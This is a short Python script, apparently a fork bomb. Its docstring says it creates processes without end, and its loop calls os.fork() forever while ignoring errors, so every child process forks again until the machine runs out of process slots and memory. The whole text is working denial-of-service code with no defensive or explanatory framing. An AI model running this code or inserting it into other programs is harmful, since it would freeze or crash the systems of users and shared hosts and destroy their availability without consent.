"""Makes processes without end; each of them makes more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
